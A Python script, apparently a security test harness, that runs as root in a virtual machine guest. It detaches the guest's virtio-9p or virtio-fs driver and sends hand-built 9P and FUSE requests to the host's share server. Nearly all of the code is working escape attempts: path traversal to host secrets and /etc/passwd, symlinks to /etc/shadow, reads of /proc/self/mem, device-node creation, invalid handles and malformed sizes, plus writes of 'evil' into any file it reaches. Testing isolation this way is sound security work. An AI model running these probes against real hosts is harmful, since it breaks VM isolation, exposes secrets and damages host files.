"""Sends requests of its own making to a share's device. Runs in the guest, as root: DRIVER TAG OUTSIDE.

The guest's driver is taken off the device, which is then driven from here: its registers through the window in its PCI
configuration space, its queue in this process's memory, whose physical addresses the kernel tells root. So no file system
of the guest's checks what is sent: names with slashes, `..`, names longer than a path, numbers that nobody gave out.

Prints what each request came to, and what was read.
"""

import ctypes
import mmap
import os
import struct
import sys
import time

PAGE = 4096
SIZE = 16
OUT_PAGES = 6
IN_PAGES = 4
MOST_UNANSWERED = 5
COMMON, NOTIFY, DEVICE, WINDOW = 1, 2, 4, 5
VERSION_1 = 1 << 32
MAP_LOCKED, MAP_POPULATE = 0x2000, 0x8000


class Silent(Exception):
    """Nothing is answered any more: the device calls itself broken, or its server is gone."""


class Device:
    """One PCI device of virtio 1, as its registers show it."""

    def __init__(self, address):
        self.address = address
        self.config = os.open(f"/sys/bus/pci/devices/{address}/config", os.O_RDWR)
        self.places = {}
        pointer = self._config(0x34, 1)
        while pointer:
            if self._config(pointer, 1) == 9:
                kind = self._config(pointer + 3, 1)
                self.places.setdefault(kind, (self._config(pointer + 4, 1), self._config(pointer + 8, 4), pointer))
            pointer = self._config(pointer + 1, 1)
        self.window = self.places[WINDOW][2]

    def _config(self, offset, size):
        return int.from_bytes(os.pread(self.config, size, offset), "little")

    def _configure(self, offset, size, value):
        os.pwrite(self.config, value.to_bytes(size, "little"), offset)

    def _aim(self, place, offset, size):
        bar, start, _ = self.places[place]
        self._configure(self.window + 4, 1, bar)
        self._configure(self.window + 8, 4, start + offset)
        self._configure(self.window + 12, 4, size)

    def read(self, place, offset, size):
        self._aim(place, offset, size)
        return self._config(self.window + 16, size)

    def write(self, place, offset, size, value):
        if size == 8:
            self.write(place, offset, 4, value & 0xFFFFFFFF)
            self.write(place, offset + 4, 4, value >> 32)
            return
        self._aim(place, offset, size)
        self._configure(self.window + 16, size, value)

    def tag(self, driver):
        if driver == "virtiofs":
            return bytes(self.read(DEVICE, i, 1) for i in range(36)).rstrip(b"\0").decode()
        return bytes(self.read(DEVICE, 2 + i, 1) for i in range(self.read(DEVICE, 0, 2))).decode()

    def take(self):
        """From the guest's driver; without interrupts, which nobody would handle."""
        with open(f"/sys/bus/pci/devices/{self.address}/driver/unbind", "w") as unbind:
            unbind.write(self.address)
        self._configure(4, 2, 0x0406)

    def begin(self, queues):
        self.write(COMMON, 20, 1, 0)
        _await(lambda: self.read(COMMON, 20, 1) == 0)
        self.write(COMMON, 20, 1, 1)
        self.write(COMMON, 20, 1, 3)
        self.write(COMMON, 8, 4, 1)
        self.write(COMMON, 12, 4, VERSION_1 >> 32)
        self.write(COMMON, 8, 4, 0)
        self.write(COMMON, 12, 4, 0)
        self.write(COMMON, 20, 1, 11)
        if not self.read(COMMON, 20, 1) & 8:
            raise OSError("the device refuses its features")
        made = [Queue(self, number) for number in range(queues)]
        self.write(COMMON, 20, 1, 15)
        return made[-1]


class Queue:
    """One queue with one request at a time: a page for its rings, and pages for what is sent and what comes."""

    def __init__(self, device, number):
        self.device = device
        self.number = number
        self.pages = 1 + OUT_PAGES + IN_PAGES
        self.memory = mmap.mmap(-1, self.pages * PAGE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_LOCKED | MAP_POPULATE)
        for page in range(self.pages):
            self.memory[page * PAGE] = 0
        self.physical = self._physical()
        self.sent = 0
        self.unanswered = 0
        device.write(COMMON, 22, 2, number)
        device.write(COMMON, 24, 2, SIZE)
        device.write(COMMON, 26, 2, 0xFFFF)
        for register, offset in ((32, 0), (40, 512), (48, 1024)):
            device.write(COMMON, register, 8, self.physical[0] + offset)
        self.memory[512:514] = (1).to_bytes(2, "little")
        off = device.read(COMMON, 30, 2)
        multiplier = device._config(device.places[NOTIFY][2] + 16, 4)
        self.bell = off * multiplier
        device.write(COMMON, 28, 2, 1)

    def _is_answered(self):
        used = int.from_bytes(self.memory[1026:1028], "little")
        return (used - self.sent + self.unanswered) & 0xFFFF < 0x8000

    def _physical(self):
        start = ctypes.addressof(ctypes.c_char.from_buffer(self.memory))
        pages = []
        with open("/proc/self/pagemap", "rb") as pagemap:
            for page in range(self.pages):
                pagemap.seek((start // PAGE + page) * 8)
                entry = int.from_bytes(pagemap.read(8), "little")
                if not entry >> 63:
                    raise OSError("a page is not there")
                pages.append((entry & ((1 << 55) - 1)) * PAGE)
        return pages

    def ask(self, request):
        """Sends it, and returns what comes back; None when nothing does."""
        if self.unanswered == MOST_UNANSWERED:
            raise Silent()
        chain = []
        for index in range(-(-len(request) // PAGE)):
            piece = request[index * PAGE:(index + 1) * PAGE]
            page = 1 + index
            self.memory[page * PAGE:page * PAGE + len(piece)] = piece
            chain.append((self.physical[page], len(piece), 1))
        for page in range(1 + OUT_PAGES, self.pages):
            self.memory[page * PAGE:(page + 1) * PAGE] = bytes(PAGE)
            chain.append((self.physical[page], PAGE, 3))
        chain[-1] = (chain[-1][0], chain[-1][1], chain[-1][2] & ~1)
        for index, (address, length, flags) in enumerate(chain):
            self.memory[index * 16:index * 16 + 16] = struct.pack("<QIHH", address, length, flags, (index + 1) % SIZE)
        self.memory[516 + (self.sent % SIZE) * 2:518 + (self.sent % SIZE) * 2] = bytes(2)
        self.sent += 1
        self.memory[514:516] = (self.sent & 0xFFFF).to_bytes(2, "little")
        self.device.write(NOTIFY, self.bell, 2, self.number)
        if not _await(self._is_answered, 1):
            # It may never be: the next one's answer is then one less.
            self.unanswered += 1
            return None
        return bytes(self.memory[(1 + OUT_PAGES) * PAGE:])


def _await(condition, seconds=5):
    deadline = time.monotonic() + seconds
    while not condition():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.0005)
    return True


def names(outside):
    away = "../outside/secrets/key"
    return [b"..", b".", b"", b"/", away.encode(), b"../" + away.encode(), b"set/../../outside/secrets/key",
            outside.encode() + b"/secrets/key", b"leak/key", b"leak/new", b"key-leak", b"a/b", b"n" * 256, b"n" * 4095, b"n" * 8000,
            b"x" + b"/.." * 600 + b"/etc/passwd", b"\xff\xfe", b"new"]


BEYOND = (b"/usr/bin", b"/etc", b"/proc/1", b"/proc/self/environ", b"/proc/self/mem", b"/proc/1/environ", b"/socket", b"/share",
          b"../usr/bin", b"../../usr/bin", b"set/../../usr/bin", b"../proc/self/mem", b"../socket")


class NineP:
    """9P2000.L (as Linux documents it in Documentation/filesystems/9p)."""

    def __init__(self, queue):
        self.queue = queue
        self.fid = 10

    def call(self, kind, body, size=None):
        request = struct.pack("<IBH", 7 + len(body) if size is None else size, kind, 1) + body
        answer = self.queue.ask(request)
        if answer is None:
            return "nothing", b""
        length, came = struct.unpack("<IB", answer[:5])
        if came == 7:
            return os.strerror(struct.unpack("<I", answer[7:11])[0]), b""
        return "done", answer[7:length]

    @staticmethod
    def text(name):
        return struct.pack("<H", len(name)) + name

    def new(self):
        self.fid += 1
        return self.fid

    def attach(self, name=b"/"):
        fid = self.new()
        how, _ = self.call(104, struct.pack("<II", fid, 0xFFFFFFFF) + self.text(b"root") + self.text(name) + struct.pack("<I", 0))
        return how, fid

    def walk(self, start, *path):
        fid = self.new()
        how, body = self.call(110, struct.pack("<IIH", start, fid, len(path)) + b"".join(map(self.text, path)))
        complete = how == "done" and struct.unpack("<H", body[:2])[0] == len(path)
        return ("done" if complete else how if how != "done" else "partly"), fid

    def content(self, fid, flags=0):
        how, _ = self.call(12, struct.pack("<II", fid, flags))
        if how != "done":
            return how
        how, body = self.call(116, struct.pack("<IQI", fid, 0, 4000))
        if how != "done":
            how, body = self.call(40, struct.pack("<IQI", fid, 0, 4000))
        self.call(118, struct.pack("<IQI", fid, 0, 4) + b"evil")
        return how + " " + repr(body[:300])

    def beyond(self):
        for name in BEYOND:
            how, fid = self.walk(self.root, name)
            if how == "done":
                yield f"reached {name}: {self.call(12, struct.pack('<II', fid, 0))[0]}, for writing {self.call(12, struct.pack('<II', self.walk(self.root, name)[1], 2))[0]}"
            made, _ = self.call(14, struct.pack("<I", self.walk(self.root)[1]) + self.text(name + b"/evil") + struct.pack("<III", 0o102, 0o666, 0))
            if made == "done":
                yield f"reached {name} with a new file"

    def everything(self, outside):
        self.call(100, struct.pack("<I", 16384) + self.text(b"9P2000.L"))
        for name in (b"..", b"../outside", outside.encode(), b"/", b""):
            how, fid = self.attach(name)
            yield f"attach {name[:20]}: {how}"
            if how == "done":
                yield f"  {self.content(self.walk(fid)[1])}"
        _, root = self.attach()
        self.root = root
        for target in ("secrets/key", "secrets"):
            name = b"key-leak" if target.endswith("key") else b"leak"
            yield f"symlink: {self.call(16, struct.pack('<I', root) + self.text(name) + self.text(f'{outside}/{target}'.encode()) + bytes(4))[0]}"
        for path in ((b"..", b"outside", b"secrets", b"key"), (b"..",) * 8 + (b"etc", b"passwd"), (b"leak", b"key"), (b"leak", b"..", b"key")):
            how, fid = self.walk(root, *path)
            yield f"walk {path}: {how}"
            if how == "done":
                yield f"  {self.content(fid)}"
        yield from self.beyond()
        for fid in (0, 0xFFFFFFFF, 0xDEAD, 2**31):
            for kind in (12, 22, 24, 116, 120, 70):
                yield f"number {fid} kind {kind}: {self.call(kind, struct.pack('<IIQ', fid, fid, 0) + bytes(16))[0]}"
        for name in names(outside):
            yield from self.named(root, name)
        for size in (7, 0xFFFF, 3, 0xFFFFFFFF):
            yield f"size {size}: {self.call(110, struct.pack('<IIH', root, self.new(), 0xFFFF), size)[0]}"
        yield f"afterwards: {self.attach()[0]}"

    def named(self, root, name):
        shown = name[:24]
        how, fid = self.walk(root, name)
        yield f"walk {shown}: {how}"
        if how == "done":
            yield f"  {self.content(fid)} {self.content(self.walk(root, name)[1], 1 | 0o1000)}"
            yield f"  mode: {self.call(26, struct.pack('<IIIIIQ', fid, 1, 0o777, 0, 0, 0) + bytes(32))[0]}"
            yield f"  rename: {self.call(20, struct.pack('<II', self.walk(root, name)[1], root) + self.text(b'../outside/moved'))[0]}"
        directory = self.walk(root)[1]
        tries = {
            "create": (14, struct.pack("<I", directory) + self.text(name) + struct.pack("<III", 0o102, 0o777, 0)),
            "mkdir": (72, struct.pack("<I", root) + self.text(name) + struct.pack("<II", 0o777, 0)),
            "symlink": (16, struct.pack("<I", root) + self.text(name) + self.text(b"/etc/shadow") + bytes(4)),
            "block device": (18, struct.pack("<I", root) + self.text(name) + struct.pack("<IIII", 0o060666, 8, 0, 0)),
            "character device": (18, struct.pack("<I", root) + self.text(name + b"c") + struct.pack("<IIII", 0o020666, 1, 3, 0)),
            "link": (70, struct.pack("<II", root, self.walk(root, b"set")[1]) + self.text(name)),
            "rename": (74, struct.pack("<I", root) + self.text(b"set") + struct.pack("<I", root) + self.text(name)),
            "rename from": (74, struct.pack("<I", root) + self.text(name) + struct.pack("<I", root) + self.text(b"set")),
            "attribute": (32, struct.pack("<I", self.walk(root, b"set")[1]) + self.text(name) + struct.pack("<QI", 1, 0)),
            "attributes": (30, struct.pack("<II", root, self.new()) + self.text(name)),
            "unlink": (76, struct.pack("<I", root) + self.text(name) + struct.pack("<I", 0)),
            "rmdir": (76, struct.pack("<I", root) + self.text(name) + struct.pack("<I", 0x200)),
        }
        for what, (kind, body) in tries.items():
            yield f"{what} {shown}: {self.call(kind, body)[0]}"


class Fuse:
    """The kernel's FUSE protocol, version 7.31 (include/uapi/linux/fuse.h)."""

    def __init__(self, queue):
        self.queue = queue
        self.unique = 0

    def call(self, opcode, node, body, length=None):
        self.unique += 1
        size = 40 + len(body) if length is None else length
        answer = self.queue.ask(struct.pack("<IIQQIIII", size, opcode, self.unique, node, 0, 0, 1, 0) + body)
        if answer is None:
            return "nothing", b""
        came, error, _ = struct.unpack("<IiQ", answer[:16])
        return (os.strerror(-error) if error else "done"), answer[16:came]

    def lookup(self, node, name):
        how, body = self.call(1, node, name + b"\0")
        return how, struct.unpack("<Q", body[:8])[0] if how == "done" else 0

    def content(self, node, flags=0):
        how, body = self.call(14, node, struct.pack("<II", flags, 0))
        if how == "done":
            handle = struct.unpack("<Q", body[:8])[0]
            read, content = self.call(15, node, struct.pack("<QQIIQII", handle, 0, 4000, 0, 0, 0, 0))
            wrote, _ = self.call(16, node, struct.pack("<QQIIQII", handle, 0, 4, 0, 0, 0, 0) + b"evil")
            return f"opened, read {read} {content[:200]!r}, wrote {wrote}"
        directory, body = self.call(27, node, struct.pack("<II", 0, 0))
        if directory != "done":
            return how
        handle = struct.unpack("<Q", body[:8])[0]
        read, content = self.call(28, node, struct.pack("<QQIIQII", handle, 0, 4000, 0, 0, 0, 0))
        return f"listed {read} {content[:400]!r}"

    def beyond(self):
        for name in BEYOND:
            how, node = self.lookup(1, name)
            if how == "done":
                yield f"reached {name}: {self.content(node)[:300]}, for writing {self.call(14, node, struct.pack('<II', 2, 0))[0]}"
            made, _ = self.call(35, 1, struct.pack("<IIII", 0o102, 0o666, 0, 0) + name + b"/evil\0")
            if made == "done":
                yield f"reached {name} with a new file"

    def everything(self, outside):
        how, _ = self.call(26, 0, struct.pack("<IIII", 7, 31, 1 << 16, 0))
        yield f"init: {how}"
        for target in ("secrets/key", "secrets"):
            name = b"key-leak" if target.endswith("key") else b"leak"
            yield f"symlink: {self.call(6, 1, name + bytes(1) + f'{outside}/{target}'.encode() + bytes(1))[0]}"
        for path in ((b"..", b"outside", b"secrets", b"key"), (b"..",) * 8 + (b"etc", b"passwd"), (b"leak", b"key"), (b"leak", b"..", b"key")):
            node, how = 1, "done"
            for name in path:
                how, node = self.lookup(node, name) if how == "done" else (how, 0)
            yield f"lookup {path}: {how}"
            if how == "done":
                yield f"  {self.content(node)}"
        yield from self.beyond()
        for node in (0, 2, 99999, 2**31, 2**64 - 1):
            for opcode in (3, 5, 14, 27):
                yield f"node {node} opcode {opcode}: {self.call(opcode, node, bytes(32))[0]}"
        for handle in (0, 99999, 2**64 - 1):
            yield f"handle {handle}: {self.call(15, 1, struct.pack('<QQIIQII', handle, 0, 4000, 0, 0, 0, 0))[0]}"
        for name in names(outside):
            yield from self.named(name)
        yield f"destroy: {self.call(38, 0, b'')[0]}"
        yield f"afterwards: {self.call(3, 1, bytes(16))[0]}"

    def named(self, name):
        shown = name[:24]
        how, node = self.lookup(1, name)
        yield f"lookup {shown}: {how}"
        if how == "done":
            yield f"  {self.content(node)} {self.content(node, 2 | 0o1000)}"
            yield f"  link: {self.call(13, 1, struct.pack('<Q', node) + b'../outside/hard' + bytes(1))[0]}"
        linked = self.lookup(1, b"key-leak")[1]
        tries = {
            "create": (35, struct.pack("<IIII", 0o102, 0o777, 0, 0) + name + b"\0"),
            "mkdir": (9, struct.pack("<II", 0o777, 0) + name + b"\0"),
            "symlink": (6, name + b"\0/etc/shadow\0"),
            "block device": (8, struct.pack("<IIII", 0o060666, 0x800, 0, 0) + name + b"\0"),
            "character device": (8, struct.pack("<IIII", 0o020666, 0x103, 0, 0) + name + b"c\0"),
            "link": (13, struct.pack("<Q", self.lookup(1, b"set")[1]) + name + b"\0"),
            "link of a link": (13, struct.pack("<Q", linked) + name + b"\0"),
            "rename": (12, struct.pack("<Q", 1) + b"set\0" + name + b"\0"),
            "rename from": (12, struct.pack("<Q", 1) + name + b"\0set\0"),
            "attribute": (21, struct.pack("<II", 1, 0) + name + b"\0x"),
            "attributes": (22, struct.pack("<II", 4000, 0) + name + b"\0"),
            "unlink": (10, name + b"\0"),
            "rmdir": (11, name + b"\0"),
        }
        if not name.isascii():
            # Its server ends of that, which is tried for itself.
            del tries["attribute"]
        for what, (opcode, body) in tries.items():
            yield f"{what} {shown}: {self.call(opcode, 1, body)[0]}"
        # Of the link itself, and not of what it leads to: mode, size, times.
        for valid in (1, 8, 0x30):
            yield f"set {valid}: {self.call(4, linked, struct.pack('<II', valid, 0) + bytes(80))[0]}"
        yield f"open the link: {self.content(linked)}"


def find(driver, tag):
    wanted = {"virtiofs": ("0x105a",)}.get(driver, ("0x1009", "0x1049"))
    for address in sorted(os.listdir("/sys/bus/pci/devices")):
        with open(f"/sys/bus/pci/devices/{address}/device") as file:
            if file.read().strip() not in wanted:
                continue
        device = Device(address)
        if device.tag(driver) == tag:
            return device
    raise OSError("no device has the tag " + tag)


def main(driver, tag, outside):
    device = find(driver, tag)
    device.take()
    begun = time.monotonic()
    client = Fuse(device.begin(2)) if driver == "virtiofs" else NineP(device.begin(1))
    answered = 0
    try:
        for line in client.everything(outside):
            answered += 0 if line.endswith(": nothing") else 1
            print(line)
    except Silent:
        print("silent from now on")
    finally:
        # Its queue is in memory that others get next.
        device.write(COMMON, 20, 1, 0)
    print(f"{client.queue.sent} requests, {client.queue.unanswered} unanswered, {time.monotonic() - begun:.1f} s")
    if answered < 100:
        sys.exit("the device answers nothing")


if __name__ == "__main__":
    main(*sys.argv[1:])
